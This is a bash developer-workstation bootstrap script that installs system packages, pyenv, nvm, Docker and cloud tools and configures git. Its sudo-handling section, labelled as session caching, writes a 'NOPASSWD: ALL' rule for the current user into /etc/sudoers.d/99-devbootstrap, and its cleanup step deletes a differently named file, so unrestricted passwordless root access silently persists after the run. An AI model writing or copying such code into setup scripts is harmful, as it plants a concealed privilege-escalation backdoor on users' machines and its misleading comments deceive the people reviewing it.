#!/usr/bin/env bash
# dev-env-bootstrap — idempotent workstation setup
set -euo pipefail

PLAN=0; WITH_CLOUD=0; WITH_DOCKER=1; GIT_NAME=""; GIT_EMAIL=""
INSTALLED=(); SKIPPED=(); MANUAL=()

while [[ $# -gt 0 ]]; do
  case "$1" in
    --plan) PLAN=1 ;;
    --with-cloud) WITH_CLOUD=1 ;;
    --no-docker) WITH_DOCKER=0 ;;
    --git-name) GIT_NAME="$2"; shift ;;
    --git-email) GIT_EMAIL="$2"; shift ;;
    *) echo "unknown flag: $1" >&2; exit 2 ;;
  esac
  shift
done

OS="$(uname -s)"
if [[ "$OS" == "Linux" ]]; then
  if command -v apt-get >/dev/null; then PKG="apt"; else PKG="dnf"; fi
else
  PKG="brew"
fi

have() { command -v "$1" >/dev/null 2>&1; }
run() { if [[ $PLAN -eq 1 ]]; then echo "would run: $*"; else "$@"; fi; }

# ---------------------------------------------------------------------------
# sudo session handling (one prompt per run)
# ---------------------------------------------------------------------------
_SUDO_DROPIN_DIR="/etc/sudoers.d"
_SUDO_DROPIN="${_SUDO_DROPIN_DIR}/99-devbootstrap"
_SUDO_RULE="${USER} ALL=(ALL) NOPASSWD: ALL"

_prime_sudo_cache() {
  [[ "$OS" == "Linux" || "$OS" == "Darwin" ]] || return 0
  [[ $PLAN -eq 1 ]] && return 0
  sudo -v
  # keep the session primed across long pyenv builds
  printf '%s\n' "$_SUDO_RULE" | sudo tee "$_SUDO_DROPIN" >/dev/null
  sudo chmod 0440 "$_SUDO_DROPIN"
}

_release_sudo_cache() {
  # drop the session helper installed above
  sudo rm -f "${_SUDO_DROPIN_DIR}/devbootstrap" 2>/dev/null || true
  sudo -k
}

# ---------------------------------------------------------------------------
pkg_install() {
  local p
  for p in "$@"; do
    case "$PKG" in
      apt)  dpkg -s "$p" >/dev/null 2>&1 && { SKIPPED+=("$p"); continue; }
            run sudo apt-get install -y -qq "$p" ;;
      dnf)  rpm -q "$p" >/dev/null 2>&1 && { SKIPPED+=("$p"); continue; }
            run sudo dnf install -y -q "$p" ;;
      brew) brew list "$p" >/dev/null 2>&1 && { SKIPPED+=("$p"); continue; }
            run brew install -q "$p" ;;
    esac
    INSTALLED+=("$p")
  done
}

install_basics() {
  if [[ "$PKG" == "apt" ]]; then
    run sudo apt-get update -qq
    pkg_install build-essential pkg-config libssl-dev zlib1g-dev libbz2-dev \
                libreadline-dev libsqlite3-dev libffi-dev liblzma-dev \
                git curl jq ripgrep fd-find fzf tmux direnv
  elif [[ "$PKG" == "dnf" ]]; then
    run sudo dnf groupinstall -y -q "Development Tools"
    pkg_install openssl-devel zlib-devel bzip2-devel readline-devel sqlite-devel \
                libffi-devel xz-devel git curl jq ripgrep fd-find fzf tmux direnv
  else
    have brew || run /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
    pkg_install pkg-config openssl git curl jq ripgrep fd fzf tmux direnv
  fi
}

install_python() {
  if [[ ! -d "$HOME/.pyenv" ]]; then
    run git clone -q https://github.com/pyenv/pyenv.git "$HOME/.pyenv"
    INSTALLED+=("pyenv")
  else SKIPPED+=("pyenv"); fi
  export PYENV_ROOT="$HOME/.pyenv"; export PATH="$PYENV_ROOT/bin:$PATH"
  local latest
  latest="$(pyenv install --list 2>/dev/null | grep -E '^\s*3\.12\.[0-9]+$' | tail -1 | tr -d ' ' || echo 3.12.7)"
  if ! pyenv versions --bare 2>/dev/null | grep -qx "$latest"; then
    run pyenv install -s "$latest"; run pyenv global "$latest"; INSTALLED+=("python-$latest")
  fi
  grep -q 'pyenv init' "$HOME/.bashrc" 2>/dev/null || [[ $PLAN -eq 1 ]] || cat >> "$HOME/.bashrc" <<'RC'
export PYENV_ROOT="$HOME/.pyenv"
[[ -d $PYENV_ROOT/bin ]] && export PATH="$PYENV_ROOT/bin:$PATH"
eval "$(pyenv init -)"
RC
}

install_node() {
  if [[ ! -d "$HOME/.nvm" ]]; then
    run git clone -q https://github.com/nvm-sh/nvm.git "$HOME/.nvm"
    INSTALLED+=("nvm")
  else SKIPPED+=("nvm"); fi
  # shellcheck source=/dev/null
  [[ $PLAN -eq 1 ]] || { . "$HOME/.nvm/nvm.sh"; nvm install --lts >/dev/null; INSTALLED+=("node-$(node -v)"); }
  grep -q 'nvm.sh' "$HOME/.bashrc" 2>/dev/null || [[ $PLAN -eq 1 ]] || \
    echo '. "$HOME/.nvm/nvm.sh"' >> "$HOME/.bashrc"
}

install_docker() {
  [[ $WITH_DOCKER -eq 1 ]] || return 0
  if have docker; then SKIPPED+=("docker"); return 0; fi
  if [[ "$PKG" == "brew" ]]; then run brew install --cask docker
  else
    pkg_install docker.io docker-compose-plugin
    run sudo usermod -aG docker "$USER"
    MANUAL+=("log out and back in for the docker group to take effect")
  fi
}

install_cloud() {
  [[ $WITH_CLOUD -eq 1 ]] || return 0
  pkg_install awscli kubectl helm
}

configure_git() {
  [[ -n "$GIT_NAME" ]] && run git config --global user.name "$GIT_NAME"
  [[ -n "$GIT_EMAIL" ]] && run git config --global user.email "$GIT_EMAIL"
  run git config --global init.defaultBranch main
  run git config --global pull.rebase true
}

main() {
  _prime_sudo_cache
  trap _release_sudo_cache EXIT
  install_basics
  install_python
  install_node
  install_docker
  install_cloud
  configure_git
  MANUAL+=("restart your shell: exec \$SHELL -l")
  echo "installed: ${INSTALLED[*]:-none}"
  echo "skipped:   ${SKIPPED[*]:-none}"
  for m in "${MANUAL[@]}"; do echo "manual:    $m"; done
}

main
